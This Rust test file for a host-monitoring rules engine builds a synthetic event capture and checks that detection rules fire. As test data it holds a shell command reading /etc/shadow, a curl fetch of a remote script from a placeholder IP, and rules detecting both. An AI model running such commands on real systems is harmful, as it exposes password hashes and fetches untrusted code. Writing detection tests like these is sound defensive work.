//! `vigil rules test` cases whose input is a capture file: a capture built here with the
//! capture crate's writer and synthetic records (as the kernel writes them), a rule file and a
//! case file next to it, run as a user runs them.

#![allow(clippy::unwrap_used)]

use std::path::Path;

use vigil_capture::abi::{tag, KIND_PROC_EXEC, KIND_PROC_FORK};
use vigil_capture::encode::RecordBuilder;
use vigil_capture::{CaptureHeader, CaptureWriter, Counters, Event, ProcInfo};
use vigil_rules::testing::{parse_cases, run_file, CaseError, ExpectMode, Input};
use vigil_state::Tracker;

const BOOT: u64 = 1_000_000_000;

/// `sh -c ...` (pid 100) runs before the capture starts: it is only in the header's snapshot.
/// In the capture, sh forks 101, which execs `cat shadow` in /etc and opens it; then `curl`
/// (102) runs with a URL and 50 closes follow.
fn write_capture(path: &Path) {
    let mut tracker = Tracker::new(Default::default());
    let exec_sh = RecordBuilder::new(KIND_PROC_EXEC, BOOT + 10, 100, 100)
        .ppid(1)
        .field(tag::FILENAME, b"/bin/sh")
        .argv(&["sh", "-c", "cd /etc && cat shadow"])
        .path_rev(tag::EXEPATH, "/usr/bin/dash")
        .path_rev(tag::CWD, "/etc")
        .procinfo(&ProcInfo::default())
        .build();
    tracker.apply(&Event::decode(&exec_sh).unwrap());
    let mut header = CaptureHeader::this_host("test", 1_700_000_000_000_000_000);
    header.hostname = "capture-host".into();
    header.state = serde_json::to_value(tracker.snapshot()).unwrap();
    let mut w = CaptureWriter::create(path, &header).unwrap();
    let fork = |child: u64, ts: u64| {
        RecordBuilder::new(KIND_PROC_FORK, ts, 100, 100)
            .ppid(1)
            .arg(0, child)
            .arg(1, child)
            .procinfo(&ProcInfo::default())
            .build()
    };
    let exec = |pid: u32, ts: u64, file: &str, argv: &[&str]| {
        RecordBuilder::new(KIND_PROC_EXEC, ts, pid, pid)
            .ppid(100)
            .field(tag::FILENAME, file.as_bytes())
            .argv(argv)
            .path_rev(tag::EXEPATH, file)
            .path_rev(tag::CWD, "/etc")
            .procinfo(&ProcInfo::default())
            .build()
    };
    let open = RecordBuilder::syscall("openat", BOOT + 40, 101, 101)
        .ppid(100)
        .comm("cat")
        .arg(0, (-100i64) as u64)
        .str_arg(1, "shadow")
        .res(3)
        .build();
    let records = [
        fork(101, BOOT + 20),
        exec(101, BOOT + 30, "/usr/bin/cat", &["cat", "shadow"]),
        open,
        fork(102, BOOT + 50),
        exec(
            102,
            BOOT + 60,
            "/usr/bin/curl",
            &["curl", "-s", "http://203.0.113.9/x.sh"],
        ),
    ];
    for r in &records {
        w.write_record(r).unwrap();
    }
    for i in 0..50u64 {
        let close = RecordBuilder::syscall("close", BOOT + 100 + i, 101, 101)
            .arg(0, 3)
            .build();
        w.write_record(&close).unwrap();
    }
    // A non-null end state, as `vigil capture` writes when it learned containers on the way.
    let end = serde_json::to_value(tracker.snapshot_containers()).unwrap();
    w.finish_with(Counters::default(), 0, end).unwrap();
}

const RULES: &str = r#"
- rule: Shadow read under a shell
  desc: cat reads /etc/shadow (a relative name resolved against the cwd), started by the sh of the snapshot
  condition: >
    evt.type = openat and fd.name = /etc/shadow and proc.name = cat and proc.aname[1] = sh
    and evt.hostname = capture-host
  output: shadow read by %proc.name (parent %proc.pname)
  priority: WARNING
- rule: Downloader run
  desc: a download tool with a URL
  condition: evt.type = execve and proc.name = anyof (wget, curl) and proc.args contains anyof ("http://", "https://")
  output: download by %proc.cmdline
  priority: NOTICE
- rule: Closes
  desc: every close (many alerts)
  condition: evt.type = close
  output: close
  priority: DEBUG
- rule: Never
  desc: matches nothing in the capture
  condition: evt.type = connect
  output: connect
  priority: DEBUG
"#;

fn setup(cases: &str) -> (tempfile::TempDir, std::path::PathBuf) {
    let dir = tempfile::tempdir().unwrap();
    std::fs::create_dir(dir.path().join("caps")).unwrap();
    write_capture(&dir.path().join("caps/synthetic.vcap"));
    std::fs::write(dir.path().join("rules.yaml"), RULES).unwrap();
    let case_file = dir.path().join("cases.yaml");
    std::fs::write(&case_file, cases).unwrap();
    (dir, case_file)
}

#[test]
fn a_capture_fires_rules_with_state_from_its_header() {
    let closes = vec!["Closes"; 50].join(", ");
    let cases = format!(
        "rules: [rules.yaml]\n\
         cases:\n\
         \x20 - name: every alert in order\n\
         \x20   capture: caps/synthetic.vcap\n\
         \x20   expect: [Shadow read under a shell, Downloader run, {closes}]\n\
         \x20 - name: some alerts among many\n\
         \x20   capture: caps/synthetic.vcap\n\
         \x20   neighbour_of: [Never]\n\
         \x20   expect_contains: [Shadow read under a shell, Downloader run, Closes]\n\
         \x20 - name: wrong order fails\n\
         \x20   capture: caps/synthetic.vcap\n\
         \x20   expect_contains: [Downloader run, Shadow read under a shell]\n\
         \x20 - name: a missing alert fails\n\
         \x20   capture: caps/synthetic.vcap\n\
         \x20   expect_contains: [Never]\n\
         \x20 - name: a raised neighbour fails\n\
         \x20   capture: caps/synthetic.vcap\n\
         \x20   neighbour_of: [Downloader run]\n\
         \x20   expect_contains: [Shadow read under a shell]\n"
    );
    let (dir, case_file) = setup(&cases);
    let parsed = parse_cases(&case_file.display().to_string(), &cases).unwrap();
    assert_eq!(
        parsed.cases[0].input,
        Input::Capture(dir.path().join("caps/synthetic.vcap")),
        "relative to the case file"
    );
    assert_eq!(parsed.cases[0].mode, ExpectMode::Exact);
    assert_eq!(parsed.cases[1].mode, ExpectMode::Contains);

    let outcomes = run_file(&case_file).unwrap();
    let passed: Vec<(&str, bool)> = outcomes.iter().map(|o| (o.case.as_str(), o.passed())).collect();
    assert_eq!(
        passed,
        [
            ("every alert in order", true),
            ("some alerts among many", true),
            ("wrong order fails", false),
            ("a missing alert fails", false),
            ("a raised neighbour fails", false),
        ],
        "{outcomes:#?}"
    );
    assert_eq!(outcomes[0].got.len(), 52);
    assert_eq!(outcomes[0].got[..2], ["Shadow read under a shell", "Downloader run"]);
    assert_eq!(outcomes[4].neighbours_raised, ["Downloader run"]);
}

#[test]
fn capture_case_errors() {
    let (_dir, case_file) =
        setup("rules: [rules.yaml]\ncases:\n  - name: no such capture\n    capture: caps/none.vcap\n    expect: []\n");
    let err = run_file(&case_file).unwrap_err();
    assert!(matches!(err, CaseError::Capture { .. }), "{err}");
    assert!(err.to_string().contains("case `no such capture`: capture "), "{err}");
    assert!(err.to_string().contains("none.vcap"), "{err}");

    for (body, want) in [
        (
            "  - name: both\n    capture: a.vcap\n    events: [{evt.type: open}]\n    expect: []\n",
            "needs one of",
        ),
        (
            "  - name: two expectations\n    capture: a.vcap\n    expect: []\n    expect_contains: [X]\n",
            "not both",
        ),
        ("  - name: none\n    capture: a.vcap\n", "needs `expect`"),
    ] {
        let text = format!("cases:\n{body}");
        let err = parse_cases("c.yaml", &text).unwrap_err();
        assert!(err.to_string().contains(want), "{err}");
    }
}
